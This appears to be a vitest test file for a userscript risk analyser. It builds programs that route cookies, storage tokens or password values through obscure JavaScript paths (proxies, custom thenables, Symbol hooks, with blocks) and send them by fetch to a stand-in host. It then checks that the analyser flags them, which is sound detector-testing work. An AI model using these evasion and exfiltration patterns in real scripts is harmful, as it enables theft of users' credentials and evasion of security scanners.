import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";
import { userscript } from "../testing/find-in.ts";

/** What a program carries, what else the engine may take it for, and a use of it that is a theft. */
const CARGOS = [
	["the second half of a name", `"kie"`, `"x"`, (it: string) => `document["coo" + ${it}]`],
	["the first half of a name", `"coo"`, `"x"`, (it: string) => `document[${it} + "kie"]`],
	["a name of the window", `"localStorage"`, `"name"`, (it: string) => `window[${it}].token`],
	["a name of a storage", `"getItem"`, `"key"`, (it: string) => `localStorage[${it}]("token")`],
	["a storage", `localStorage`, `({ getItem() {} })`, (it: string) => `${it}.getItem("token")`],
	["a password field", `document.querySelector("[type=password]")`, `({ value: 1 })`, (it: string) => `${it}.value`],
] as const;

/** Ways on which the engine once lost the cargo, or took it for the other value. What stands between « and » is used for the theft. */
const WAYS: readonly (readonly [string, (cargo: string, other: string) => string])[] = [
	["a variable within with", (it, other) => `var o = { b: ${other} }; with (o) { var b = ${it}; } «o.b»;`],
	["an own promise", (it) => `Promise.resolve({ then(yes) { yes(${it}); } }).then((got) => { «got»; });`],
	["an own promise that is awaited", (it) => `(async () => { «await { then(yes) { yes(${it}); } }»; })();`],
	["an own promise in a list", (it) => `Promise.all([{ then(yes) { yes(${it}); } }]).then(([got]) => { «got»; });`],
	["an own exec", (it) => `const p = /a/; p.exec = () => [${it}]; «"a".match(p)[0]»;`],
	["an own match", (it) => `«"a".match({ [Symbol.match]: () => ${it} })»;`],
	["an own split", (it) => `«"a".split({ [Symbol.split]: () => [${it}] })[0]»;`],
	["an own search", (it) => `«"a".search({ [Symbol.search]: () => ${it} })»;`],
	["deep lists", (it) => `«[[1], [[${it}]]].flat(Infinity)[1]»;`],
	[
		"a list of an own kind",
		(it) =>
			`const l = [1]; l.constructor = { [Symbol.species]: function () { return [${it}]; } }; «l.filter(() => false)[0]»;`,
	],
	[
		"a field over an accessor",
		(it) => `class A { get a() { return 1; } set a(to) {} } class B extends A { a = ${it}; } «new B().a»;`,
	],
	["a method of all maps", (it) => `Map.prototype.get = () => ${it}; «new Map([["a", 1]]).get("a")»;`],
	["the end of a generator", (it) => `function* g() { yield 1; } const i = g(); i.next(); «i.return(${it}).value»;`],
	[
		"an asynchronous generator",
		(it) => `(async function* () { yield ${it}; })().next().then(({ value }) => { «value»; });`,
	],
	[
		"a reason among outcomes",
		(it) => `Promise.allSettled([Promise.reject(${it})]).then(([{ reason }]) => { «reason»; });`,
	],
	["one of many errors", (it) => `Promise.any([Promise.reject(${it})]).catch((e) => { «e.errors[0]»; });`],
	["a function that revives", (it) => `«JSON.parse('{"a":1}', (k, v) => (k === "a" ? ${it} : v)).a»;`],
	["a variable of the window", (it, other) => `var own = ${other}; globalThis.own = ${it}; «own»;`],
	[
		"a test of a class",
		(it) => `let got; 1 instanceof { [Symbol.hasInstance]() { got = ${it}; return true; } }; «got»;`,
	],
	[
		"the end of an iterator",
		(it, other) =>
			`let got = ${other}; for (const a of { [Symbol.iterator]: () => ({ next: () => ({}), return() { got = ${it}; return {}; } }) }) break; «got»;`,
	],
	["a comparison of items", (it, other) => `let got = ${other}; [2, 1].sort(() => { got = ${it}; return 0; }); «got»;`],
	["an object that spreads", (it) => `«[].concat({ 0: ${it}, length: 1, [Symbol.isConcatSpreadable]: true })[0]»;`],
	["a method of lists that is not modeled", (it) => `«[${it}].groupToMap((one) => one)[0]»;`],
	[
		"a proxy that describes",
		(it) =>
			`«Object.getOwnPropertyDescriptor(new Proxy({}, { getOwnPropertyDescriptor: () => ({ value: ${it}, configurable: true }) }), "a").value»;`,
	],
	[
		"a proxy that is asked",
		(it, other) => `let got = ${other}; "a" in new Proxy({}, { has() { got = ${it}; return true; } }); «got»;`,
	],
];

const PROGRAMS = WAYS.flatMap(([way, program]) =>
	CARGOS.map(([title, cargo, other, read]) => {
		const code = program(cargo, other).replace(
			/«(.*)»/,
			(_, it: string) => `fetch("https://c.test/?c=" + ${read(`(${it})`)})`,
		);
		return [title, way, code] as const;
	}),
);

describe("a secret on a way that is hard to follow", () => {
	test.each(PROGRAMS)("is not green: %s by %s", (_title, _way, code) => {
		expect(["amber", "red"]).toContain(analyzeScript({ code }).risk_level);
	});

	test("is not green in a userscript that may run without a function around it", () => {
		const code = `var own = { to: "/a?c=" }; globalThis.own = { to: "https://c.test/?c=" }; fetch(own.to + localStorage.getItem("token"));`;
		const script = userscript(["match https://shop.example/*", "grant none"], code);
		expect(["amber", "red"]).toContain(analyzeScript({ code: script }).risk_level);
	});
});

/** A script that has an object with secrets, and reads members of the same name elsewhere. */
const HARMLESS = [
	["a setting", `localStorage.setItem("size", 2); fetch("/list?size=" + localStorage.getItem("size")).then(show);`],
	[
		"fields of a form of its own",
		`const f = document.querySelector("#q"); fetch("/search?q=" + f.value).then((r) => r.json()).then(show);`,
	],
	["a name of the page in a loop", `for (const name of ["title", "URL"]) console.log(document[name]);`],
] as const;

describe("a script without a stranger's address", () => {
	test.each(HARMLESS)("stays green: %s", (_title, code) => {
		expect(analyzeScript({ code })).toMatchObject({ risk_level: "green" });
	});
});
